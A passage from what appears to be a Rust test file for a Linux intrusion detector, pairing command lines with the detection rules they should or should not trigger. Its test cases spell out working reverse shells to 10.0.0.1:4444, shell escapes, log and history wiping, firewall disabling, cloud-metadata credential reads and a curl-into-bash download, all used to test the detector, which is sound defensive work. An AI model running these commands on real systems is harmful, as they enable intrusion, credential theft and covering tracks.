            1000,
            1000,
            vec!["vi", "-c", ":shell"],
            vec!["exec-shell-escape-via-program"],
        ),
        case(
            "bash",
            1000,
            1000,
            vec![
                "vim",
                "-c",
                ":py3 import os; os.execl(\"/bin/sh\", \"sh\", \"-c\", \"reset; exec sh\")",
            ],
            vec!["exec-shell-escape-via-program"],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["vim", "-c", ":lua os.execute(\"reset; exec sh\")"],
            vec!["exec-shell-escape-via-program"],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["nice", "/bin/sh"],
            vec!["exec-shell-escape-via-program"],
        ),
        case(
            "bash",
            1000,
            1000,
            vec![
                "rsync",
                "-e",
                "sh -c \"sh 0<&2 1>&2\"",
                "127.0.0.1:/dev/null",
            ],
            vec!["exec-shell-escape-via-program"],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["ssh", "-o", "ProxyCommand=;sh 0<&2 1>&2", "x"],
            vec!["exec-shell-escape-via-program"],
        ),
        case(
            "bash",
            1000,
            1000,
            vec![
                "ssh",
                "-o",
                "PermitLocalCommand=yes",
                "-o",
                "LocalCommand=/bin/sh",
                "localhost",
            ],
            vec!["exec-shell-escape-via-program"],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["nc", "-e", "/bin/sh", "10.0.0.1", "4444"],
            vec!["tool-netcat-exec"],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["ncat", "10.0.0.1", "4444", "-e", "/bin/bash"],
            vec!["tool-netcat-exec"],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["nc.traditional", "-c", "bash", "10.0.0.1", "4444"],
            vec!["tool-netcat-exec"],
        ),
        case(
            "bash",
            1000,
            1000,
            vec![
                "perl",
                "-e",
                "use Socket;$i=\"10.0.0.1\";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,\">&S\");open(STDOUT,\">&S\");open(STDERR,\">&S\");exec(\"/bin/sh -i\");};",
            ],
            vec!["exec-interpreter-pty-spawn"],
        ),
        case(
            "bash",
            1000,
            1000,
            vec![
                "perl",
                "-MIO",
                "-e",
                "$p=fork;exit,if($p);$c=new IO::Socket::INET(PeerAddr,\"10.0.0.1:4444\");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;",
            ],
            vec!["exec-interpreter-pty-spawn"],
        ),
        case(
            "bash",
            1000,
            1000,
            vec![
                "php",
                "-r",
                "$sock=fsockopen(\"10.0.0.1\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");",
            ],
            vec!["exec-interpreter-pty-spawn"],
        ),
        case(
            "bash",
            1000,
            1000,
            vec![
                "python3",
                "-c",
                "import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect((\"10.0.0.1\",4444));os.dup2(s.fileno(),0); os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);import pty; pty.spawn(\"sh\")",
            ],
            vec!["exec-interpreter-pty-spawn"],
        ),
        case(
            "bash",
            1000,
            1000,
            vec![
                "ruby",
                "-rsocket",
                "-e",
                "f=TCPSocket.open(\"10.0.0.1\",4444).to_i;exec sprintf(\"/bin/sh -i <&%d >&%d 2>&%d\",f,f,f)",
            ],
            vec!["exec-interpreter-pty-spawn"],
        ),
        case(
            "bash",
            1000,
            1000,
            vec![
                "ruby",
                "-rsocket",
                "-e",
                "exit if fork;c=TCPSocket.new(\"10.0.0.1\",\"4444\");loop{c.gets.chomp!;(exit! if $_==\"exit\");IO.popen($_,\"r\"){|io|c.print io.read} rescue c.puts \"failed\"}",
            ],
            vec!["exec-interpreter-pty-spawn"],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["python3", "-c", "import pty;pty.spawn(\"/bin/bash\")"],
            vec!["exec-interpreter-pty-spawn"],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["python", "-c", "from pty import spawn; spawn('/bin/sh')"],
            vec!["exec-interpreter-pty-spawn"],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["python3", "-c", "import os; os.system('/bin/sh')"],
            vec!["exec-interpreter-pty-spawn"],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["sh", "-c", "cat /tmp/p | bash"],
            vec!["exec-pipe-to-shell"],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["bash", "-c", "echo 'id' |sh"],
            vec!["exec-pipe-to-shell"],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["xterm", "-display", "10.0.0.1:1"],
            vec!["exec-xterm-remote-display"],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["service", "ip6tables", "stop"],
            vec!["evasion-disable-security"],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["systemctl", "disable", "firewalld"],
            vec!["evasion-disable-security"],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["chkconfig", "cbdaemon", "off"],
            vec!["evasion-disable-security"],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["truncate", "-s0", "/root/.bash_history"],
            vec!["evasion-clear-history"],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["ln", "-sf", "/dev/null", "/home/alice/.bash_history"],
            vec!["evasion-clear-history"],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["chattr", "+i", "/root/.bash_history"],
            vec!["evasion-immutable-attribute"],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["rm", "/root/.bash_history"],
            vec!["evasion-clear-history"],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["shred", "-u", "/home/alice/.zsh_history"],
            vec!["evasion-clear-history"],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["bash", "-c", "shopt -ou history; id"],
            vec!["evasion-clear-history"],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["bash", "-c", "history -c; history -w"],
            vec!["evasion-clear-history"],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["unlink", "/root/.bash_history"],
            vec!["evasion-clear-history"],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["/tmp/x", "--cpu-priority=5", "-o", "pool.minexmr.com:4444"],
            vec!["miner-cli-options", TMP],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["./k", "--nicehash", "-u", "w"],
            vec!["miner-cli-options"],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["/sbin/modprobe", "msr", "allow_writes=on"],
            vec!["miner-msr-write"],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["sh", "-c", "echo LS1kb25hdGUtbGV2ZWw9MQ== | base64 -d"],
            vec!["miner-encoded-options"],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["./k", "-o", "c3RyYXR1bSt0Y3A6Ly9wb29s"],
            vec!["miner-encoded-options"],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["hping3", "-S", "10.0.0.1", "-p", "80"],
            vec!["tool-masscan"],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["aircrack-ng", "cap.cap"],
            vec!["tool-password-cracker"],
        ),
        case("bash", 1000, 1000, vec!["zenmap"], vec!["tool-nmap"]),
        case(
            "bash",
            1000,
            1000,
            vec!["wireshark", "-k", "-i", "eth0"],
            vec!["tool-sniffer"],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["tcpdump", "-i", "any"],
            vec!["tool-sniffer"],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["unlink", "/var/log/auth.log"],
            vec!["evasion-wipe-logs"],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["rm", "-f", "/var/spool/mail/root"],
            vec!["evasion-wipe-logs"],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["rm", "/var/log/syslog"],
            vec!["evasion-wipe-logs"],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["mv", "/var/log/syslog", "/tmp/x"],
            vec!["evasion-wipe-logs"],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["bash", "-c", "cat /dev/null > /var/log/syslog"],
            vec!["evasion-wipe-logs"],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["sh", "-c", " >/var/log/syslog"],
            vec!["evasion-wipe-logs"],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["sudo", "./execve_hijack"],
            vec!["tool-rootkit"],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["/lib/ufw/ufw-init", "force-stop"],
            vec!["evasion-flush-firewall"],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["ufw", "disable"],
            vec!["evasion-flush-firewall"],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["chattr", "-i", "/etc/passwd"],
            vec!["evasion-immutable-attribute"],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["setcap", "cap_setuid+ep", "/tmp/python3"],
            vec!["privesc-dangerous-capability"],
        ),
        case(
            "bash",
            1000,
            1000,
            vec![
                "sh",
                "-c",
                "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4444 >/tmp/f",
            ],
            vec!["exec-fifo-reverse-shell"],
        ),
        // The loop alone, its FIFO made before.
        case(
            "bash",
            1000,
            1000,
            vec![
                "sh",
                "-c",
                "cat /tmp/vgf | /bin/sh -i 2>&1 | nc 127.0.0.1 9443 > /tmp/vgf",
            ],
            vec!["exec-fifo-reverse-shell"],
        ),
        case(
            "bash",
            1000,
            1000,
            vec![
                "sh",
                "-c",
                "/bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect h:443 > /tmp/s",
            ],
            vec!["exec-fifo-reverse-shell"],
        ),
        // A file fed to an interactive shell whose output is only kept: no relay.
        case(
            "bash",
            1000,
            1000,
            vec!["sh", "-c", "sh -i < cmds 2>&1 | tee log > out"],
            vec![],
        ),
        case(
            "nginx",
            1000,
            1000,
            vec!["whoami"],
            vec!["exec-web-server-recon"],
        ),
        case(
            "php-fpm",
            1000,
            1000,
            vec!["/usr/bin/id"],
            vec!["exec-web-server-recon"],
        ),
        case(
            "apache2",
            1000,
            1000,
            vec!["uname", "-a"],
            vec!["exec-web-server-recon"],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["apt-get", "update", "-o", "Acquire::Retries=3"],
            vec![],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["awk", "{system(\"mv \" $1 \" \" $2)}", "list"],
            vec![],
        ),
        case("bash", 1000, 1000, vec!["capsh", "--print"], vec![]),
        case(
            "bash",
            1000,
            1000,
            vec![
                "capsh",
                "--drop=cap_net_raw",
                "--",
                "-c",
                "ping -c1 127.0.0.1",
            ],
            vec![],
        ),
        case(
            "bash",
            1000,
            1000,
            vec![
                "find",
                ".",
                "-name",
                "*.sh",
                "-exec",
                "sh",
                "-c",
                "shellcheck \"$1\"",
                "sh",
                "{}",
                ";",
            ],
            vec![],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["flock", "/var/lock/backup.lock", "/usr/local/bin/backup.sh"],
            vec![],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["gcc", "-O2", "-o", "a.out", "a.c"],
            vec![],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["vim", "-c", "set ft=yaml", "k.yaml"],
            vec![],
        ),
        case("bash", 1000, 1000, vec!["vim", "-c", ":wq", "f"], vec![]),
        case(
            "bash",
            1000,
            1000,
            vec!["env", "LANG=C", "/bin/sh", "./configure"],
            vec![],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["/usr/bin/env", "bash", "script.sh"],
            vec![],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["nice", "-n", "19", "make", "-j8"],
            vec![],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["rsync", "-e", "ssh -p 2222", "-a", "src/", "h:/dst/"],
            vec![],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["ssh", "-o", "ProxyCommand=ssh -W %h:%p bastion", "h"],
            vec![],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["sh", "-c", "exec 3<&0; read x"],
            vec![],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["sh", "-c", "ls -la | grep x | wc -l"],
            vec![],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["sh", "-c", "make 2>&1 | tee build.log"],
            vec![],
        ),
        case(
            "bash",
            1000,
            1000,
            vec![
                "sh",
                "-c",
                "curl -fsSL -o /tmp/x.tar.gz https://h/x.tar.gz && tar xzf /tmp/x.tar.gz -C /opt",
            ],
            vec![],
        ),
        case("bash", 1000, 1000, vec!["visudo", "-c"], vec![]),
        case("bash", 1000, 1000, vec!["cat", "/etc/passwd"], vec![]),
        case(
            "bash",
            1000,
            1000,
            vec!["cp", "-p", "/etc/shadow", "/var/backups/shadow.bak"],
            vec![],
        ),
        case("bash", 1000, 1000, vec!["cat", "/proc/cpuinfo"], vec![]),
        case("bash", 1000, 1000, vec!["ls", "-la", "/"], vec![]),
        case(
            "bash",
            1000,
            1000,
            vec![
                "curl",
                "-s",
                "--unix-socket",
                "/run/snapd.socket",
                "http://localhost/v2/snaps",
            ],
            vec![],
        ),
        case(
            "bash",
            1000,
            1000,
            vec![
                "dd",
                "if=/dev/zero",
                "of=/tmp/disk.img",
                "bs=1M",
                "count=10",
            ],
            vec![],
        ),
        case("bash", 1000, 1000, vec!["dmesg", "-T"], vec![]),
        case(
            "bash",
            1000,
            1000,
            vec!["dmesg", "--color=always", "-l", "err"],
            vec![],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["docker", "run", "--rm", "-v", "/srv/data:/data", "nginx"],
            vec![],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["docker", "run", "--net=host", "nginx"],
            vec![],
        ),
        case("bash", 1000, 1000, vec!["ncat", "-lvp", "4444"], vec![]),
        case(
            "bash",
            1000,
            1000,
            vec!["python3", "-c", "import os; print(os.getcwd())"],
            vec![],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["xterm", "-display", "localhost:10.0"],
            vec![],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["xterm", "-display", "127.0.0.1:0"],
            vec![],
        ),
        case("bash", 1000, 1000, vec!["xterm", "-display", ":0"], vec![]),
        case(
            "bash",
            1000,
            1000,
            vec!["service", "ip6tables", "status"],
            vec![],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["rm", "-f", "/tmp/build.log"],
            vec![],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["rm", "/var/log/myapp/old.log"],
            vec![],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["mv", "/var/log/myapp.log", "/var/log/myapp.log.1"],
            vec![],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["bash", "-c", "echo started >> /var/log/syslog"],
            vec![],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["bash", "-c", "history | tail"],
            vec![],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["ln", "-s", "/dev/null", "/tmp/out"],
            vec![],
        ),
        case("bash", 1000, 1000, vec!["/usr/bin/modprobe", "msr"], vec![]),
        case(
            "bash",
            1000,
            1000,
            vec!["ssh", "-o", "pool.example.com"],
            vec![],
        ),
        case("nginx", 1000, 1000, vec!["/usr/sbin/nginx", "-t"], vec![]),
        case("bash", 1000, 1000, vec!["whoami"], vec![]),
        case(
            "bash",
            1000,
            1000,
            vec![
                "bpftrace",
                "-e",
                "tracepoint:syscalls:sys_enter_openat { @[comm] = count(); }",
            ],
            vec![],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["sh", "-c", "echo aGVsbG8= | base64 -d"],
            vec![],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["iptables", "-F", "ufw-logging-deny"],
            vec!["evasion-flush-firewall"],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["/usr/sbin/ip6tables", "-X", "ufw6-logging-allow"],
            vec!["evasion-flush-firewall"],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["iptables", "-t", "filter", "--zero", "ufw-logging-allow"],
            vec!["evasion-flush-firewall"],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["iptables", "-F", "DOCKER-USER"],
            vec![],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["iptables", "-L", "ufw-logging-deny"],
            vec![],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["cat", "/root/.bash_history"],
            vec!["discovery-history-read"],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["/usr/bin/tail", "-n", "50", "/home/alice/.zsh_history"],
            vec!["discovery-history-read"],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["cat", ".bash_history"],
            vec!["discovery-history-read"],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["cat", "/var/lib/app/history.txt"],
            vec![],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["grep", "x:0:", "/etc/passwd"],
            vec!["discovery-root-accounts"],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["/usr/bin/grep", "*:0:", "/etc/passwd"],
            vec!["discovery-root-accounts"],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["grep", "x:0:"],
            vec!["discovery-root-accounts"],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["busybox", "grep", "^root:x:0:", "/etc/passwd"],
            vec!["discovery-root-accounts"],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["awk", "-F:", "($3 == \"0\") {print}", "/etc/passwd"],
            vec!["discovery-root-accounts"],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["gawk", "-F", ":", "$3==0{print $1}"],
            vec!["discovery-root-accounts"],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["grep", "^alice:", "/etc/passwd"],
            vec![],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["grep", "x:10:", "/etc/group"],
            vec![],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["awk", "-F:", "$3 >= 1000 {print $1}", "/etc/passwd"],
            vec![],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["awk", "-F:", "$1 == \"root\"", "/etc/passwd"],
            vec![],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["awk", "$3 == 0 {n++}", "data.tsv"],
            vec![],
        ),
        case("bash", 1000, 1000, vec!["awk", "-F:", "$3==01"], vec![]),
        case(
            "bash",
            1000,
            1000,
            vec!["sh", "-c", "whoami", "[S];pwd;echo [E]"],
            vec!["exec-web-shell-markers"],
        ),
        case(
            "bash",
            1000,
            1000,
            vec![
                "/bin/bash",
                "-c",
                "cd \"/var/www/html\";id;echo [S];pwd;echo [E]",
            ],
            vec!["exec-web-shell-markers"],
        ),
        case(
            "bash",
            1000,
            1000,
            vec![
                "sh",
                "-c",
                "cd /var/www; ls -la 2>&1; echo \"[S]\"; pwd; echo \"[E]\"",
            ],
            vec!["exec-web-shell-markers"],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["sh", "-c", "echo [S] done; pwd"],
            vec![],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["sh", "-c", "echo S; pwd; echo E"],
            vec![],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["rm", "-f", "/root/.history"],
            vec!["evasion-clear-history"],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["rm", "-f", ".history"],
            vec!["evasion-clear-history"],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["rm", "-f", "/tmp/run/cid.history"],
            vec![],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["ln", "-sf", "/dev/null", "/home/ann/.history"],
            vec!["evasion-clear-history"],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["ln", "-sf", "/dev/null", "/srv/app/browser.history"],
            vec![],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["curl", "-sk", "https://10.0.0.1:10250/pods"],
            vec!["discovery-kubelet-api"],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["wget", "-qO-", "http://10.0.0.1:10255/pods/"],
            vec!["discovery-kubelet-api"],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["curl", "-sk", "https://10.0.0.1:10250/runningpods/"],
            vec!["discovery-kubelet-api"],
        ),
        case(
            "bash",
            1000,
            1000,
            vec![
                "curl",
                "-sk",
                "-X",
                "POST",
                "https://10.0.0.1:10250/run/default/web/nginx",
                "-d",
                "cmd=id",
            ],
            vec!["exec-kubelet-api-run"],
        ),
        case(
            "bash",
            1000,
            1000,
            vec![
                "websocat",
                "-k",
                "wss://10.0.0.1:10250/exec/default/web/nginx?command=id&output=1",
            ],
            vec!["exec-kubelet-api-run"],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["curl", "-s", "http://10.0.0.1:10250"],
            vec![],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["curl", "-s", "http://10.0.0.1:8080/pods"],
            vec![],
        ),
        case(
            "bash",
            1000,
            1000,
            vec![
                "curl",
                "-sk",
                "-H",
                "Authorization: Bearer eyJhbGciOi",
                "https://kubernetes.default.svc/api/v1/namespaces/default/secrets",
            ],
            vec!["discovery-kubernetes-api-token"],
        ),
        case(
            "bash",
            1000,
            1000,
            vec![
                "curl",
                "-k",
                "https://10.96.0.1:443/apis/apps/v1/deployments",
                "--header",
                "authorization: bearer abc",
            ],
            vec!["discovery-kubernetes-api-token"],
        ),
        case(
            "bash",
            1000,
            1000,
            vec![
                "curl",
                "-s",
                "-H",
                "Authorization: Bearer abc",
                "https://api.example.com/v2/items",
            ],
            vec![],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["curl", "-s", "https://10.96.0.1/api/v1/namespaces"],
            vec![],
        ),
        case(
            "bash",
            1000,
            1000,
            vec![
                "amazon-ssm-agent",
                "-register",
                "-code",
                "c0de",
                "-id",
                "1d",
                "-region",
                "us-east-1",
            ],
            vec!["persistence-ssm-agent-registered"],
        ),
        case(
            "bash",
            1000,
            1000,
            vec![
                "/usr/bin/amazon-ssm-agent",
                "-register",
                "-y",
                "-id",
                "1d",
                "-code",
                "c0de",
                "-region",
                "eu-west-1",
            ],
            vec!["persistence-ssm-agent-registered"],
        ),
        case(
            "bash",
            1000,
            1000,
            vec!["amazon-ssm-agent", "-version"],
            vec![],
        ),
        // SigmaHQ rules/linux/network_connection, "Script Interpreters Cloud Metadata Access":
        // the address in an interpreter's inline code; the aws CLI (python) and a script file
        // name carry none.
        case(
            "bash",
            1000,
            1000,
            vec![
                "python3",
                "-c",
                "import urllib.request as u; print(u.urlopen('http://169.254.169.254/latest/meta-data/iam/security-credentials/').read())",
            ],
            vec!["discovery-cloud-metadata"],
        ),
        case(
            "bash",
            1000,
            1000,
            vec![
                "perl",
                "-MLWP::Simple",
                "-e",
                "print get('http://169.254.170.2/v2/credentials/abc')",
            ],
            vec!["discovery-cloud-metadata"],
        ),
        case(
            "bash",
            1000,
            1000,
            vec![
                "python3",
                "/usr/local/bin/aws",
                "sts",
                "get-caller-identity",
            ],
            vec![],
        ),
        // SigmaHQ rules/linux/auditd, "Bpfdoor TCP Ports Redirect" (docs/EFFICACY.md, "SigmaHQ's
        // Linux auditd, file and network rules"): one host's packets for an open port sent to
        // another local port, in either order; a transparent proxy's redirect of a subnet, an
        // interface or everyone, and a DNAT, are not.
        case(
            "bash",
            0,
            0,
            vec![
                "/sbin/iptables",
                "-t",
                "nat",
                "-I",
                "PREROUTING",
                "-p",
                "tcp",
                "-s",
                "192.0.2.1",
                "--dport",
                "22",
                "-j",
                "REDIRECT",
                "--to-ports",
                "42392",
            ],
            vec!["evasion-firewall-port-redirect"],
        ),
        case(
            "bash",
            0,
            0,
            vec![
                "iptables-nft",
                "-t",
                "nat",
                "-A",
                "PREROUTING",
                "-p",
                "tcp",
                "--dport",
                "443",
                "-j",
                "REDIRECT",
                "--to-ports",
                "43001",
                "-s",
                "198.51.100.7/32",
            ],
            vec!["evasion-firewall-port-redirect"],
        ),
        case(
            "bash",
            0,
            0,
            vec![
                "iptables",
                "-t",
                "nat",
                "-A",
                "PREROUTING",
                "-s",
                "192.168.1.0/24",
                "-p",
                "tcp",
                "--dport",
                "80",
                "-j",
                "REDIRECT",
                "--to-port",
                "3128",
            ],
            vec![],
        ),
        case(
            "bash",
            0,
            0,
            vec![
                "iptables",
                "-t",
                "nat",
                "-A",
                "ISTIO_REDIRECT",
                "-p",
                "tcp",
                "-j",
                "REDIRECT",
                "--to-ports",
                "15001",
            ],
            vec![],
        ),
        case(
            "bash",
            0,
            0,
            vec![
                "iptables",
                "-t",
                "nat",
                "-A",
                "PREROUTING",
                "-s",
                "10.0.0.5",
                "-p",
                "tcp",
                "--dport",
                "80",
                "-j",
                "DNAT",
                "--to-destination",
                "10.0.0.9:8080",
            ],
            vec![],
        ),
        // Elastic's endpoint behaviour rules for Linux, the files past the listing.
        // "Potential SSH-IT SSH Worm Downloaded": THC's deploy scripts fetched by a downloader.
        user(
            vec!["curl", "-fsSL", "https://thc.org/ssh-it/x"],
            vec!["tool-thc-deploy-download"],
        ),
        user(
            vec![
                "wget",
                "-q",
                "http://nossl.segfault.net/ssh-it-deploy.sh",
                "-O",
                "/dev/null",
            ],
            vec!["tool-thc-deploy-download"],
        ),
        user(
            vec!["curl", "-fsSL", "gsocket.io/y"],
            vec!["tool-thc-deploy-download"],
        ),
        user(
            vec!["sh", "-c", "bash -c \"$(curl -fsSL https://gs.thc.org/x)\""],
            vec!["exec-download-substitution-shell"],
        ),
        user(vec!["curl", "-s", "https://thc.org/ssh-it/"], vec![]),
        user(vec!["curl", "-s", "https://gsocket.io/"], vec![]),
        user(
            vec!["curl", "-s", "https://example.org/thc.org/ssh-it/x"],
            vec![],
        ),
        // "Potential Linux Hack Tool Launched": the names of its list the tool rules lacked.
        user(vec!["whatweb", "http://h/"], vec!["tool-web-scanner"]),
        user(
            vec!["commix", "--url", "http://h/?a=1"],
            vec!["tool-web-scanner"],
        ),
        user(
            vec!["fcrackzip", "-u", "-D", "-p", "w.txt", "a.zip"],
            vec!["tool-password-cracker"],
        ),
        user(vec!["cewl", "http://h/"], vec!["tool-password-cracker"]),
        user(
            vec!["netdiscover", "-r", "10.0.0.0/24"],
            vec!["tool-masscan"],
        ),
        user(vec!["yersinia", "-G"], vec!["tool-mitm"]),
        user(vec!["pspy64s"], vec!["tool-privesc-enumeration"]),
        user(
            vec!["evil-winrm", "-i", "10.0.0.5", "-u", "a"],
            vec!["tool-c2-framework"],
        ),
        // "Suspicious Python Encoded Payload Execution": the other decoders of the standard
        // library an exec'd one-liner hides its program with.
        user(
            vec![
                "python3",
                "-c",
                "import zlib,base64;exec(zlib.decompress(base64.b64decode('eJwrKMrMK9FQTzXWrcrJTFLXBAAwWQVD')))",
            ],
            vec!["exec-interpreter-decoded-program"],
        ),
        user(
            vec![
                "python3",
                "-c",
                "import codecs;exec(codecs.decode('cevag(1)','rot13'))",
            ],
            vec!["exec-interpreter-decoded-program"],
        ),
        user(
            vec![
                "python3",
                "-c",
                "import marshal,base64;exec(marshal.loads(base64.b64decode('YwAAAA==')))",
            ],
            vec!["exec-interpreter-decoded-program"],
        ),
        user(
            vec![
                "python",
                "-c",
                "import binascii;exec(binascii.a2b_base64('cHJpbnQoMSk='))",
            ],
            vec!["exec-interpreter-decoded-program"],
        ),
        user(
            vec![
                "python3",
                "-c",
                "import base64;c=base64.b85decode('F)}kW');exec(c)",
            ],
            vec!["exec-interpreter-decoded-program"],
        ),
        user(
            vec![
                "python3",
                "-c",
                "import codecs;print(codecs.decode('uryyb','rot13'))",
            ],
            vec![],
        ),
        user(
            vec![
                "python3",
                "-c",
                "import zlib,sys;sys.stdout.buffer.write(zlib.decompress(sys.stdin.buffer.read()))",
            ],
            vec![],
        ),
    ]
}

/// A case with a given parent and uids.
fn case(
    parent: &'static str,
    uid: u32,
    euid: u32,
    argv: Vec<&'static str>,
    want: Vec<&'static str>,
) -> Case {
    (argv, parent, uid, euid, want)
}

#[test]
fn every_builtin_rule_fires_on_its_case_and_not_on_the_benign_ones() {
    let mut covered = BTreeSet::new();
    for (argv, parent, uid, euid, want) in exec_table() {
        let mut d = detector();
        let got = rule_ids(&mut d, &exec_as(&argv, parent, uid, euid));
        assert_eq!(
            got, want,
            "{argv:?} (parent {parent}, uid {uid}, euid {euid})"
        );
        covered.extend(got);
    }
    // Rules on socket-connected standard streams: see reverse_shell_needs_stdin_and_stdout_on_a_socket.
    covered.extend(rule_ids(
        &mut detector(),
        &with_stdio(exec(&["bash", "-i"]), &[(0, "inet"), (1, "inet")]),
    ));
    let all: BTreeSet<String> = RuleSet::builtin()
        .unwrap()
        .rules()
        .iter()
        .map(|r| r.id.clone())
        .collect();
    let missing: Vec<_> = all.difference(&covered).collect();
    assert!(
        missing.is_empty(),
        "rules without a firing case: {missing:?}"
    );
}

/// Splunk's "Linux <program> Privilege Escalation" detections, the GTFOBins forms they are
/// built from (run through sudo; the argv of the program is the same), for programs this host
/// does not have: each program told to start a bare shell, and the same program doing its
/// ordinary work.
#[test]
fn gtfobins_shells_of_splunk_privilege_escalation_detections() {
    const ESCAPE: &str = "exec-shell-escape-via-program";
    const ONE_LINER: &str = "exec-interpreter-pty-spawn";
    let cases: &[(&[&str], Option<&str>)] = &[
        (&["cpulimit", "-l", "100", "-f", "/bin/sh"], Some(ESCAPE)),
        (
            &["csvtool", "call", "/bin/sh;false", "/etc/passwd"],
            Some(ESCAPE),
        ),
        (
            &["emacs", "-Q", "-nw", "--eval", "(term \"/bin/sh\")"],
            Some(ESCAPE),
        ),
        (
            &["gem", "open", "-e", "/bin/sh -c /bin/sh", "rdoc"],
            Some(ESCAPE),
        ),
        (
            &["octave-cli", "--eval", "system(\"/bin/sh\")"],
            Some(ESCAPE),
        ),
        (
            &[
                "openvpn",
                "--dev",
                "null",
                "--script-security",
                "2",
                "--up",
                "/bin/sh -c sh",
            ],
            Some(ESCAPE),
        ),
        (
            &[
                "puppet",
                "apply",
                "-e",
